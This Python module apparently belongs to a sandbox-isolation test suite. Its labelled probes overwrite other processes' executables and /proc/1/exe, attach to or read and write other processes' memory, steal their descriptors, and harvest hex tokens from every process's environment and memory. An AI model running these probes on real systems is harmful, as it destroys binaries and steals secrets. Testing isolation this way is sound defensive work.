"""Attacks on other processes, on the runtime's program, and on what was inherited."""

import atexit
import ctypes
import errno
import os
import re
import stat
import subprocess
import sys

from base import LIBC, attack, call, main

O_PATH = 0o10000000
TOKEN = re.compile(rb"[0-9a-f]{64}")


@attack("E06")
def inherited():
    """What a program holds before it opens anything: each descriptor with its target."""
    # The listing itself opens one; it is closed when it is looked at.
    numbers = [int(name) for name in os.listdir("/proc/self/fd")]
    rows = []
    for number in sorted(numbers):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            kind = stat.S_IFMT(os.fstat(number).st_mode)
        except OSError:
            continue
        word = "folder" if kind == stat.S_IFDIR else target.split(":")[0]
        rows.append((str(number), lambda word=word: word))
    return rows


@attack("E07")
def runtime_program(path, *started):
    """Holds a program that runs by its path-only handle, and writes to it once it has ended."""

    def reopen():
        victim = subprocess.Popen([path, *started], stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL)
        try:
            handle = os.open(path, O_PATH)
            victim.kill()
            victim.wait()
            overwrite(f"/proc/self/fd/{handle}")
        finally:
            victim.kill()

    def first():
        overwrite("/proc/1/exe")

    def every():
        reached = []
        for name in os.listdir("/proc"):
            if not name.isdigit() or os.stat(f"/proc/{name}").st_uid == os.getuid() == 1000:
                continue
            if int(name) in (os.getpid(), os.getppid()):
                continue
            try:
                target = os.readlink(f"/proc/{name}/exe")
                if target.startswith("/run/"):
                    overwrite(f"/proc/{name}/exe")
                    reached.append(name)
            except OSError:
                continue
        return "ok" if reached else "none"

    return [("reopen", reopen), ("first", first), ("every", every)]


def overwrite(path):
    handle = os.open(path, os.O_WRONLY)
    os.write(handle, b"#!/bin/false\n")
    os.close(handle)


@attack("E23")
def trace(*victims):
    """On the processes that are given; without one, on a child of its own."""
    if not victims:
        child = subprocess.Popen(["sleep", "30"], stdout=subprocess.DEVNULL)
        atexit.register(child.kill)
        victims = (str(child.pid),)
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    def move(name, pid):
        address = ctypes.addressof(buffer)
        local, remote = Vector(address, 8), Vector(address, 8)
        call(name, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)

    def steal(pid):
        call("pidfd_getfd", call("pidfd_open", pid, 0), 0, 0)

    rows = []
    for word in victims:
        pid = int(word)
        label = "victim" if len(victims) == 1 else f"pid {pid}"
        rows += [
            (f"{label} attach", lambda pid=pid: call("ptrace", 16, pid, 0, 0)),
            (f"{label} seize", lambda pid=pid: call("ptrace", 0x4206, pid, 0, 0)),
            (f"{label} readv", lambda pid=pid: reached(move, "process_vm_readv", pid)),
            (f"{label} writev", lambda pid=pid: reached(move, "process_vm_writev", pid)),
            (f"{label} getfd", lambda pid=pid: steal(pid)),
            (f"{label} mem", lambda pid=pid: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))),
        ]
    return rows


def reached(action, *arguments):
    """A bad address is told only to whom the process is open."""
    try:
        action(*arguments)
    except OSError as error:
        if error.errno != errno.EFAULT:
            raise


@attack("E24")
def secrets():
    """Every run of 64 hexadecimal digits that any process shows, and what refuses to be read."""

    def hunt():
        found = set()
        for name in (name for name in os.listdir("/proc") if name.isdigit()):
            for part in ("environ", "cmdline", "maps"):
                found.update(TOKEN.findall(read(f"/proc/{name}/{part}")))
            found.update(TOKEN.findall(memory_of(name)))
        return " ".join(sorted(word.decode() for word in found)) or "none"

    rows = [("tokens", hunt)]
    for pid in (1, 2):
        rows += [(f"{part} of {pid}", lambda pid=pid, part=part: expose(f"/proc/{pid}/{part}"))
                 for part in ("environ", "mem", "maps", "auxv", "io", "root/etc", "cwd/etc", "fd")]
    return rows


def expose(path):
    if os.path.isdir(path) or path.endswith("fd"):
        os.listdir(path)
    else:
        os.close(os.open(path, os.O_RDONLY))


def read(path):
    try:
        with open(path, "rb") as stream:
            return stream.read(1 << 20)
    except OSError:
        return b""


def memory_of(name):
    """The heap and the stack, where the kernel lets it be read."""
    text = b""
    for line in read(f"/proc/{name}/maps").decode(errors="replace").splitlines():
        if not line.endswith(("[heap]", "[stack]")):
            continue
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        try:
            with open(f"/proc/{name}/mem", "rb") as stream:
                stream.seek(start)
                text += stream.read(end - start)
        except OSError:
            continue
    return text


@attack("E30")
def raised():
    """Becomes root by a set-user-id program of its own making, and waits to be looked at."""

    def become():
        LIBC.prctl(4, 1)
        return f"uid {os.getuid()} euid {os.geteuid()}"

    return [("ids", become)]


if __name__ == "__main__":
    sys.exit(main())
